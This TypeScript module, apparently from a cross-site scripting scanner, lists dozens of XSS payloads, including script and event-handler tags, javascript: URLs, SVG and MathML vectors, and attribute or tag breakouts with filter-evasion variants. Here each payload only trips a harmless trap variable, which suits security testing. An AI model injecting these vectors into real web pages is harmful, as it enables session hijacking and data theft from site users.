/**
 * Texts that run on a page which writes them where it should not, each in its own way. What they run is noticed by every
 * tab: see `Browser.ts`.
 *
 * @module
 */

/** Reading it is noticed. */
const trap = "window.florinTrap"

const elements = [
  "<script>RUN</script>",
  "<ScRiPt>RUN</sCrIpT>",
  "<script/x>RUN</script>",
  "<script >RUN</script >",
  "<script>RUN//",
  "<scr<script>ipt>RUN</scr</script>ipt>",
  '<script src="data:text/javascript,RUN"></script>',
  '<script type="module">RUN</script>',
  "<img src=x onerror=RUN>",
  '<img src="x" onerror="RUN">',
  "<img/src=x/onerror=RUN>",
  "<IMG SRC=x OnErRoR=RUN>",
  "<img src=x onerror = RUN>",
  "<img src='x' onerror='RUN'",
  '<img srcset="x" onerror="RUN">',
  "<image src=x onerror=RUN>",
  "<svg onload=RUN>",
  "<svg/onload=RUN>",
  "<svg><script>RUN</script></svg>",
  "<svg><animate onbegin=RUN attributeName=x dur=1s>",
  "<svg><set onbegin=RUN attributeName=x to=y>",
  '<svg><a xlink:href="javascript:RUN"><text x="9" y="9">x</text></a></svg>',
  '<math><a xlink:href="javascript:RUN">x</a></math>',
  "<math><mtext><style><img src=x onerror=RUN></style></mtext></math>",
  "<body onload=RUN>",
  "<body onpageshow=RUN>",
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe srcdoc="<script>parent.florinTrap</script>"></iframe>',
  "<iframe onload=RUN></iframe>",
  '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  '<a href="javascript:RUN">x</a>',
  '<a href="jav&#x09;ascript:RUN">x</a>',
  '<form action="javascript:RUN"><input type=submit></form>',
  '<button formaction="javascript:RUN">x</button>',
  "<input autofocus onfocus=RUN>",
  "<select autofocus onfocus=RUN>",
  "<textarea autofocus onfocus=RUN>",
  "<details open ontoggle=RUN>",
  "<video><source onerror=RUN></video>",
  "<video src=x onerror=RUN></video>",
  "<audio src=x onerror=RUN></audio>",
  "<marquee onstart=RUN>x</marquee>",
  "<link rel=stylesheet href=x onerror=RUN>",
  "<style onload=RUN></style>",
  '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
  '<base href="javascript:RUN//">',
  "<template><img src=x onerror=RUN></template><img src=x onerror=RUN>",
  "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
  "<xmp><img src=x onerror=RUN></xmp><img src=x onerror=RUN>",
]

/** They leave an attribute, a text or a script in which they were put. */
const escapes = [
  '"><img src=x onerror=RUN>',
  "'><img src=x onerror=RUN>",
  '" autofocus onfocus="RUN',
  "' autofocus onfocus='RUN",
  '" style="animation-name:x" onanimationstart="RUN',
  "</title><script>RUN</script>",
  "</textarea><script>RUN</script>",
  "</script><script>RUN</script>",
  "--><script>RUN</script><!--",
  "]]><script>RUN</script>",
  "\"}' /><script>RUN</script>",
  "&lt;img src=x onerror=RUN&gt;",
  "&#60;img src=x onerror=RUN&#62;",
  "javascript:RUN",
  "data:text/html,<script>RUN</script>",
  "${RUN}",
  "{{constructor.constructor('RUN')()}}",
  "'-RUN-'",
  '"-RUN-"',
]

export const payloads: ReadonlyArray<string> = [...elements, ...escapes].map((text) =>
  text.replaceAll("RUN", trap),
)
